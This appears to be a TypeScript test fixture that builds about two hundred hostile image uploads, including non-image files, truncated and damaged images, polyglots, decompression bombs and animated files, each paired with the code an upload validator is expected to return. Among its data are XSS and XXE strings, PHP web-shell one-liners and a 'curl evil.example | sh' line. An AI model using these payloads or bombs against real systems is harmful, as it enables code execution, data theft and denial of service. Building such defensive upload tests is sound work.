import { createHash } from 'node:crypto'
import { crc32, deflateSync } from 'node:zlib'
import sharp from 'sharp'

/** A file that is no photo, or wants to be more than one, and how it has to be refused. */
export interface HostilePhoto {
  name: string
  bytes: Buffer
  code: 'photo_type' | 'photo_unreadable' | 'photo_too_many_pixels' | 'photo_moves' | 'photo_too_large'
}

/** Two hundred of them, the same each time. */
export async function hostilePhotos(): Promise<HostilePhoto[]> {
  const photo = sharp(speckled(240, 180), { raw: { width: 240, height: 180, channels: 3 } })
  const whole = {
    jpeg: await photo.clone().jpeg().toBuffer(),
    png: await photo.clone().png().toBuffer(),
    webp: await photo.clone().webp().toBuffer(),
    gif: await photo.clone().gif().toBuffer(),
  }
  const formats = Object.entries(whole)
  return [
    ...notPhotos(),
    ...formats.flatMap(([format, bytes]) => cut(format, bytes)),
    ...formats.flatMap(([format, bytes]) => polyglots(format, bytes)),
    ...formats.flatMap(([format, bytes]) => hollow(format, bytes)),
    ...damagedPngs(whole.png),
    ...(await bombs(whole)),
    ...(await moving()),
    ...formats.map(([format, bytes]) => ({
      name: `six megabytes.${format}`,
      bytes: Buffer.concat([bytes, Buffer.alloc(6 * 1024 * 1024)]),
      code: 'photo_too_large' as const,
    })),
  ]
}

function notPhotos(): HostilePhoto[] {
  const texts = [
    '<html><script>alert(1)</script></html>',
    '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
    '<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY a SYSTEM "file:///etc/passwd">]><svg>&a;</svg>',
    '<svg xmlns="http://www.w3.org/2000/svg"><image href="http://127.0.0.1/"/></svg>',
    '<svg xmlns="http://www.w3.org/2000/svg" width="99999" height="99999"><rect width="9" height="9"/></svg>',
    '<svg onload="alert(1)"/>',
    '%PDF-1.7\n1 0 obj',
    'PK\x03\x04\x14\x00',
    'MZ\x90\x00\x03',
    '\x7fELF\x02\x01\x01',
    '<?php system($_GET[0]); ?>',
    '#!/bin/sh\nreboot',
    'alert(document.cookie)',
    '{"photo": true}',
    'BM\x36\x00\x00\x00\x00\x00',
    'II*\x00\x08\x00\x00\x00',
    'MM\x00*\x00\x00\x00\x08',
    '\x00\x00\x01\x00\x01\x00',
    '\x00\x00\x00\x18ftypheic',
    '\x00\x00\x00\x1cftypavif',
    '\x00\x00\x00\x18ftypmp42',
    '\xff\x0a',
    '\x00\x00\x00\x0cJXL \r\n\x87\n',
    '\x00\x00\x00\x0cjP  \r\n\x87\n',
    '8BPS\x00\x01',
    'ID3\x03\x00',
    'OggS\x00\x02',
    '\x1f\x8b\x08\x00',
    'RIFF\x24\x00\x00\x00WAVEfmt ',
    'RIFF\x24\x00\x00\x00AVI LIST',
    'push graphic-context\nviewbox 0 0 1 1\nimage over 0,0 0,0 "https://127.0.0.1/"',
    '%!PS-Adobe-3.0 EPSF-3.0',
    'P6 9999999 9999999 255\n',
    '#?RADIANCE\n',
    'SIMPLE  =                    T',
    'v/1\x01\x02\x00\x00\x00',
    'GIF88a\x01\x00',
    'GIF 89a',
    '\xff\xd8',
    '\x89PNG\n\x1a\n',
    'RIFF',
    ' \xff\xd8\xff\xe0',
    '\ufeff\x89PNG\r\n\x1a\n',
    'data:image/png;base64,iVBORw0KGgo=',
    'wOF2\x00\x01\x00\x00',
    '\x00asm\x01\x00\x00\x00',
    ' ',
    '\x00'.repeat(4096),
  ]
  return texts.map((text, at) => ({
    name: `no photo ${at}.jpg`,
    bytes: Buffer.from(text, 'latin1'),
    code: 'photo_type',
  }))
}

/** The first part of one, and nothing after. */
function cut(format: string, bytes: Buffer): HostilePhoto[] {
  return [0.02, 0.05, 0.1, 0.15, 0.2, 0.3, 0.4, 0.5, 0.6, 0.7, 0.8, 0.9].map((part) => ({
    name: `the first ${Math.round(part * 100)} %.${format}`,
    bytes: bytes.subarray(0, Math.max(14, Math.floor(bytes.length * part))),
    code: 'photo_unreadable',
  }))
}

/** A photo that is something else too. */
function polyglots(format: string, bytes: Buffer): HostilePhoto[] {
  const others = [
    `PK\x03\x04evil.jar${'\0'.repeat(40)}PK\x05\x06${'\0'.repeat(18)}`,
    '%PDF-1.7\n1 0 obj<</OpenAction<</S/JavaScript/JS(app.alert(1))>>>>',
    '<script>alert(1)</script>',
    '<?php eval($_POST[0]); ?>',
    '<!DOCTYPE html><body onload=alert(1)>',
    '<html><iframe src=//evil.example>',
    '#!/bin/sh\ncurl evil.example | sh',
    '\x7fELF\x02\x01\x01\x00',
  ].map((text) => Buffer.from(text, 'latin1'))
  return others.map((other, at) => ({
    name: `and more ${at}.${format}`,
    bytes: at % 2 === 0 || format !== 'jpeg' ? Buffer.concat([bytes, other]) : inComment(bytes, other),
    code: 'photo_unreadable',
  }))
}

/** In a comment of a JPEG, right after its begin. */
function inComment(jpeg: Buffer, text: Buffer): Buffer {
  const head = Buffer.from([0xff, 0xfe, 0, 0])
  head.writeUInt16BE(text.length + 2, 2)
  return Buffer.concat([jpeg.subarray(0, 2), head, text, jpeg.subarray(2)])
}

/** The right begin, and then noise or nothing of sense. */
function hollow(format: string, bytes: Buffer): HostilePhoto[] {
  const begin = bytes.subarray(0, 16)
  return [
    Buffer.alloc(0),
    Buffer.alloc(2000),
    Buffer.alloc(2000, 0xff),
    noise(2000),
    noise(200_000),
    Buffer.from('/*'.repeat(500)),
    begin,
  ].map((rest, at) => ({
    name: `hollow ${at}.${format}`,
    bytes: Buffer.concat([begin, rest]),
    code: 'photo_unreadable',
  }))
}

function damagedPngs(png: Buffer): HostilePhoto[] {
  const size = (width: number, height: number, rest = [8, 2, 0, 0, 0]) => {
    const ihdr = Buffer.alloc(13)
    ihdr.writeUInt32BE(width, 0)
    ihdr.writeUInt32BE(height, 4)
    ihdr.set(rest, 8)
    return withHeader(png, ihdr)
  }
  const wrong = [
    size(0, 180),
    size(240, 0),
    size(2_000_000_000, 2_000_000_000),
    size(240, 180, [8, 7, 0, 0, 0]),
    size(240, 180, [3, 2, 0, 0, 0]),
    size(240, 180, [8, 2, 1, 0, 0]),
    size(240, 180, [8, 3, 0, 0, 0]),
    size(1000, 1000),
    size(240, 1800),
    ...[40, 60, 100, 200, 500, 1000, 5000, 20_000].map((at) => flipped(png, at)),
    png.subarray(0, 33),
    Buffer.concat([png.subarray(0, 33), chunk('IEND', Buffer.alloc(0))]),
    Buffer.concat([png.subarray(0, 33), chunk('IDAT', Buffer.from('x')), chunk('IEND', Buffer.alloc(0))]),
  ]
  return wrong.map((bytes, at) => ({ name: `damaged ${at}.png`, bytes, code: 'photo_unreadable' }))
}

/** Small to send, and huge to draw. */
async function bombs(whole: Record<string, Buffer>): Promise<HostilePhoto[]> {
  const sizes: [number, number][] = [
    [30_000, 30_000],
    [65_000, 65_000],
    [5001, 5001],
    [16_000_000, 2],
    [2, 16_000_000],
    [100_000, 1000],
    [1000, 100_000],
  ]
  const rows = deflateSync(Buffer.alloc(8 * 1024 * 1024))
  const pngs = sizes.map(([width, height]) => {
    const ihdr = Buffer.alloc(13)
    ihdr.writeUInt32BE(width, 0)
    ihdr.writeUInt32BE(height, 4)
    ihdr.set([1, 0, 0, 0, 0], 8)
    return Buffer.concat([
      whole['png']!.subarray(0, 8),
      chunk('IHDR', ihdr),
      chunk('IDAT', rows),
      chunk('IEND', Buffer.alloc(0)),
    ])
  })
  const real = [
    ...[8000, 30_000, 65_500].map((side) => resized(whole['jpeg']!, 0xc0, side)),
    resized(await blank(64, 64).jpeg({ progressive: true }).toBuffer(), 0xc2, 40_000),
    ...[0x3fff, 0x2000].map((side) => {
      const bytes = Buffer.from(whole['webp']!)
      bytes.writeUInt16LE(side, 26)
      bytes.writeUInt16LE(side, 28)
      return bytes
    }),
  ]
  return [...pngs, ...real].map((bytes, at) => ({
    name: `bomb ${at}`,
    bytes,
    code: 'photo_too_many_pixels',
  }))
}

async function moving(): Promise<HostilePhoto[]> {
  const film = (frames: number, side: number) =>
    sharp(speckled(side, side * frames), {
      raw: { width: side, height: side * frames, channels: 3, pageHeight: side },
    })
  const still = await blank(64, 64).png().toBuffer()
  const control = Buffer.from([0, 0, 0, 2, 0, 0, 0, 0])
  const films = [
    ...(await Promise.all([2, 10, 40].map((frames) => film(frames, 32).gif().toBuffer()))),
    ...(await Promise.all([2, 10, 40].map((frames) => film(frames, 32).webp().toBuffer()))),
    Buffer.concat([still.subarray(0, 33), chunk('acTL', control), still.subarray(33)]),
  ]
  return films.map((bytes, at) => ({ name: `moves ${at}`, bytes, code: 'photo_moves' }))
}

/** A JPEG that says in its frame, which begins with `marker`, that it is larger. */
function resized(jpeg: Buffer, marker: number, side: number): Buffer {
  const bytes = Buffer.from(jpeg)
  const at = bytes.indexOf(Buffer.from([0xff, marker]))
  bytes.writeUInt16BE(side, at + 5)
  bytes.writeUInt16BE(side, at + 7)
  return bytes
}

function blank(width: number, height: number) {
  return sharp({
    create: { width, height, channels: 3, background: '#222222' },
  })
}

function withHeader(png: Buffer, ihdr: Buffer): Buffer {
  return Buffer.concat([png.subarray(0, 8), chunk('IHDR', ihdr), png.subarray(33)])
}

function chunk(type: string, data: Buffer): Buffer {
  const named = Buffer.concat([Buffer.from(type, 'latin1'), data])
  const [length, check] = [Buffer.alloc(4), Buffer.alloc(4)]
  length.writeUInt32BE(data.length)
  check.writeUInt32BE(crc32(named))
  return Buffer.concat([length, named, check])
}

function flipped(bytes: Buffer, at: number): Buffer {
  const wrong = Buffer.from(bytes)
  wrong[at]! ^= 0xff
  return wrong
}

function speckled(width: number, height: number): Buffer {
  return noise(width * height * 3)
}

/** Bytes without any order, the same each time. */
function noise(length: number): Buffer {
  const parts: Buffer[] = []
  for (let at = 0; at * 32 < length; at += 1) parts.push(createHash('sha256').update(String(at)).digest())
  return Buffer.concat(parts).subarray(0, length)
}
